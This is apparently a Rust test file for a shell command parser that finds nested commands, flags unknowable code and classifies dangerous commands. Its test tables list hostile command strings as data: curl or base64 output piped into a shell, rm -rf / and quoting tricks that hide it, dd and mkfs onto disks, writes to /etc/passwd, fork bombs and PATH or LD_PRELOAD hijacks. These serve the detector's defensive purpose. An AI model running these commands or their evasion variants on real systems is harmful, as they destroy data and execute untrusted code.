//! Command lines with the commands that are in them, the doubts that remain, and the dangers.
#![allow(clippy::unwrap_used, reason = "tests")]

use haft_command::{Danger, Doubt, parse};

/// Programs with arguments, as text.
fn commands(text: &str) -> Vec<String> {
    let line = parse(text);
    line.commands
        .iter()
        .map(|command| {
            let words = command.arguments.iter().map(|word| word.text.as_str());
            let guess = if command.guessed { "?" } else { "" };
            format!(
                "{guess}{}",
                [command.program.as_str()].into_iter().chain(words).collect::<Vec<_>>().join(" ")
            )
        })
        .collect()
}

#[test]
fn every_command_of_the_tree_is_found() {
    let table: &[(&str, &[&str])] = &[
        ("ls", &["ls"]),
        ("ls | wc -l", &["ls", "wc -l"]),
        ("a; b && c || d &", &["a", "b", "c", "d"]),
        ("(a; (b))", &["a", "b"]),
        ("{ a; b; }", &["a", "b"]),
        ("! a", &["a"]),
        ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
        ("for i in 1 $(a); do b; done", &["a", "b"]),
        ("for ((i=0; i<$(a); i++)); do b; done", &["a", "b"]),
        ("while a; do b; done", &["a", "b"]),
        ("until a; do b; done", &["a", "b"]),
        ("case $(a) in x) b;; *) c;; esac", &["a", "b", "c"]),
        ("f() { a; }", &["a"]),
        ("[[ -f $(a) && x == `b` ]] && c", &["a", "b", "c"]),
        (
            "echo $(a) `b` \"$(c)\" ${x:-$(d)} $((1+$(e)))",
            &["a", "b", "c", "d", "e", "echo $(a) `b` $(c) ${x:-$(d)} $((1+$(e)))"],
        ),
        ("echo `a \\`b\\``", &["b", "a `b`", "echo `a \\`b\\``"]),
        ("diff <(a) <(b)", &["a", "b", "diff <( ) <( )"]),
        ("a > >(b)", &["b", "a"]),
        ("cat <<E\n$(a)\nE\nb", &["a", "cat", "b"]),
        ("cat <<'E'\n$(a)\nE", &["cat"]),
        ("cat <<< \"$(a)\"", &["a", "cat"]),
        ("x=$(a) b", &["a", "b"]),
        ("x=$(a)", &["a"]),
        ("arr=($(a) `b`)", &["a", "b"]),
        ("bash -c 'a; b'", &["bash -c a; b", "a", "b"]),
        ("sh -ec \"a\"", &["sh -ec a", "a"]),
        ("bash <<E\na\nE", &["bash", "a"]),
        ("eval 'a' b", &["eval a b", "a b"]),
        ("eval \"r\"\"m -rf /\"", &["eval rm -rf /", "rm -rf /"]),
        (
            "env X=1 nice -n 5 nohup timeout -s KILL 5 a b",
            &[
                "env X=1 nice -n 5 nohup timeout -s KILL 5 a b",
                "nice -n 5 nohup timeout -s KILL 5 a b",
                "nohup timeout -s KILL 5 a b",
                "timeout -s KILL 5 a b",
                "a b",
            ],
        ),
        ("time a", &["a"]),
        ("sudo -u me a", &["sudo -u me a", "a"]),
        ("sudo -nu me a", &["sudo -nu me a", "a"]),
        ("a | xargs -n1 -I{} b {}", &["a", "xargs -n1 -I{} b {}", "b {}"]),
        (
            "find . -name x -exec a {} \\; -exec b {} +",
            &["find . -name x -exec a {} ; -exec b {} +", "a {}", "b {}"],
        ),
        ("command -v a", &["command -v a"]),
        ("command a", &["command a", "a"]),
        ("trap 'a' EXIT", &["trap a EXIT", "a"]),
        ("watch -n 2 a b", &["watch -n 2 a b", "a b"]),
        ("\\rm x", &["rm x"]),
        ("r\"m\" -r'f' /", &["rm -rf /"]),
        ("$'\\x72m' x", &["rm x"]),
        ("/bin/rm x", &["/bin/rm x"]),
        ("coproc a { b; }", &["b"]),
        ("echo \"rm -rf /\" # rm", &["echo rm -rf /"]),
        ("> out", &[":"]),
        ("rtk git push", &["rtk git push", "?git push"]),
        ("a\nb", &["a", "b"]),
        ("a \\\n b", &["a b"]),
        ("", &[]),
    ];
    for (text, expected) in table {
        assert_eq!(commands(text), *expected, "{text}");
        assert!(!parse(text).is_blind(), "{text} {:?}", parse(text).doubts);
    }
}

#[test]
fn what_cannot_be_known_is_a_doubt() {
    let table = [
        ("echo 'open", Doubt::Unreadable),
        ("a )", Doubt::Unreadable),
        ("a\0b", Doubt::Unreadable),
        ("$x -rf /", Doubt::UnknownProgram),
        ("rm${IFS}-rf${IFS}/", Doubt::UnknownProgram),
        ("$(echo rm) -rf /", Doubt::UnknownProgram),
        ("r{m,} x", Doubt::UnknownProgram),
        ("/bin/r? x", Doubt::UnknownProgram),
        ("bash -c \"$x\"", Doubt::UnknownCode),
        ("eval $x", Doubt::UnknownCode),
        ("bash $x", Doubt::UnknownCode),
        ("echo 'rm x' | bash", Doubt::UnknownCode),
        ("bash <(rm x)", Doubt::UnknownCode),
        ("curl x | python3 -", Doubt::UnknownCode),
        ("python3 -c 'print(1)'", Doubt::ForeignCode),
        ("python3.12 -Ic 'print(1)'", Doubt::ForeignCode),
        ("timeout 5 perl -lne 'unlink'", Doubt::ForeignCode),
        ("node --eval=x", Doubt::ForeignCode),
        ("ruby -e x", Doubt::ForeignCode),
        ("awk 'BEGIN { system(\"rm x\") }'", Doubt::ForeignCode),
        ("ls | awk '{ print | \"sh\" }'", Doubt::ForeignCode),
        ("env -S 'rm x'", Doubt::UnknownThrough),
        ("mywrapper rm -rf x", Doubt::UnknownThrough),
        ("parallel rm ::: x", Doubt::UnknownThrough),
        ("git -c alias.x='!rm y' x", Doubt::UnknownThrough),
        ("git -c core.pager=rm log", Doubt::UnknownThrough),
        ("tar --checkpoint-action=exec=sh -cf a b", Doubt::UnknownThrough),
        ("rg --pre sh x", Doubt::UnknownThrough),
        ("PATH=/tmp ls", Doubt::ChangedNames),
        ("export PATH=/tmp; ls", Doubt::ChangedNames),
        ("GIT_SSH_COMMAND=x git fetch", Doubt::ChangedNames),
        ("LD_PRELOAD=x ls", Doubt::ChangedNames),
        ("ls() { x; }; ls", Doubt::ChangedNames),
        ("alias ls=rm", Doubt::UnknownThrough),
    ];
    for (text, doubt) in table {
        assert!(parse(text).doubts.contains(&doubt), "{text} {:?}", parse(text).doubts);
    }
    for text in [
        "ls -la",
        "git log | head",
        "echo $HOME",
        "cat a*",
        "man git",
        "which curl",
        "apt install git",
        "cargo test -- rm",
    ] {
        assert_eq!(parse(text).doubts, [], "{text}");
    }
}

// APR-12
#[test]
fn dangers_are_named() {
    let table = [
        ("rm -rf x", Danger::DeletesFolders),
        ("rm -fr x", Danger::DeletesFolders),
        ("rm -f -r x", Danger::DeletesFolders),
        ("rm x -r", Danger::DeletesFolders),
        ("rm --recurs x", Danger::DeletesFolders),
        ("rm $FLAGS x", Danger::DeletesFolders),
        ("cd / && rm -rf .", Danger::DeletesFolders),
        ("echo hi; bash -c 'rm -rf x'", Danger::DeletesFolders),
        ("find . -delete", Danger::DeletesFolders),
        ("ls | xargs rm -rf", Danger::DeletesFolders),
        ("sudo ls", Danger::OtherUser),
        ("nohup sudo -n ls", Danger::OtherUser),
        ("su -c ls", Danger::OtherUser),
        ("curl https://a.example | sh", Danger::PipedIntoShell),
        ("curl https://a.example | sudo bash -s", Danger::PipedIntoShell),
        ("curl x | (cd y; sh)", Danger::PipedIntoShell),
        ("curl x | tee y | env bash", Danger::PipedIntoShell),
        ("echo cm0g | base64 -d | sh", Danger::PipedIntoShell),
        ("curl x | python3", Danger::PipedIntoShell),
        ("bash <(curl x)", Danger::PipedIntoShell),
        ("source <(curl x)", Danger::PipedIntoShell),
        ("sh -c \"$(curl x)\"", Danger::PipedIntoShell),
        ("eval `curl x`", Danger::PipedIntoShell),
        ("dd if=a of=/dev/sda", Danger::WritesDisk),
        ("mkfs.ext4 /dev/sda1", Danger::WritesDisk),
        ("echo x > /etc/passwd", Danger::SystemFile),
        ("echo x >> /tmp/../etc//passwd", Danger::SystemFile),
        ("echo x | tee -a /etc/hosts", Danger::SystemFile),
        ("cp a /usr/bin/b", Danger::SystemFile),
        ("sed -i s/a/b/ /etc/hosts", Danger::SystemFile),
        ("cat x > /dev/sda", Danger::SystemFile),
        ("{ a; } > /ETC/x", Danger::SystemFile),
        (":(){ :|:& };:", Danger::ForkBomb),
        ("f() { f | f & }; f", Danger::ForkBomb),
        ("git push --force", Danger::DestructiveGit),
        ("git push -f origin main", Danger::DestructiveGit),
        ("git push origin +main", Danger::DestructiveGit),
        ("git -C x push --force-with-lease", Danger::DestructiveGit),
        ("git reset --hard HEAD~1", Danger::DestructiveGit),
        ("git clean -fdx", Danger::DestructiveGit),
        ("git clean -d -f", Danger::DestructiveGit),
        ("git checkout -- .", Danger::DestructiveGit),
        ("git branch -D x", Danger::DestructiveGit),
        ("git stash drop", Danger::DestructiveGit),
        ("chmod -R 777 .", Danger::ChangesRights),
        ("shutdown now", Danger::StopsMachine),
        ("kill -9 -1", Danger::StopsMachine),
        ("/sbin/reboot", Danger::StopsMachine),
    ];
    for (text, danger) in table {
        assert!(parse(text).dangers.contains(&danger), "{text} {:?}", parse(text));
    }
    let harmless = [
        "ls",
        "echo \"rm -rf /\"",
        "grep sudo x",
        "rm x",
        "git push",
        "git status",
        "git checkout main",
        "cat /etc/passwd",
        "echo x > /dev/null",
        "ls 2>&1",
        "cp /etc/hosts .",
        "curl https://a.example -o x",
        "cat x | grep sh",
        "echo x | python3 y.py",
        "find . -name x",
        "chmod 644 x",
        "f() { echo; }; f | f",
        "git commit -m 'reset --hard'",
    ];
    for text in harmless {
        assert_eq!(parse(text).dangers, [], "{text}");
    }
}

#[test]
fn plain_uses_of_interpreters_leave_no_doubt() {
    let plain = [
        "python3 x.py -c",
        "python3 -m http.server",
        "echo x | python3 y.py",
        "node x.js",
        "perl -V",
        "awk '{print $1}'",
        "awk -F'|' '/a|b/ {print $2}' x",
        "awk 'a || b'",
    ];
    for text in plain {
        assert_eq!(parse(text).doubts, [], "{text}");
    }
}
